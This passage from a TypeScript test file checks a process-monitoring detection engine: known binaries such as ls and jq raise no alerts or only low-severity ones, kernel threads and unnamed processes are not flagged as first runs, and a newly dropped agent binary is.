    expect(e.processBatch(batch(t + 10 * S, [shellRuns(1600, '/usr/bin/ls')])).alerts).toEqual([]);
    const other = e.processBatch(batch(t + 20 * S, [shellRuns(1700, '/usr/bin/jq')]));
    expect(other.alerts.every((a) => a.severity === 'low')).toBe(true);
  });

  it('a kernel thread or a process the agent could not name is no first run of a program', () => {
    const e = new DetectionEngine(rules, OPTS);
    const t = learned(e);
    const kworker = proc({ pid: 5538, ppid: 2, exe: '[kworker/u8:1-events_unbound]', comm: 'kworker/u8:1', ancestry: ['[kthreadd]'], network: [] });
    const unknown = proc({ pid: 5600, ppid: 0, exe: '', comm: '', ancestry: [], network: [] });
    const dropped = proc({ pid: 5700, ppid: 1, exe: '/opt/new/agent', comm: 'agent', ancestry: ['/usr/lib/systemd/systemd'], network: [] });
    const kinds = e.processBatch(batch(t, [kworker, unknown, dropped])).alerts.map((a) => [a.pid, a.kind]);
    expect(kinds).toEqual([[5700, 'new-program']]);
  });
});
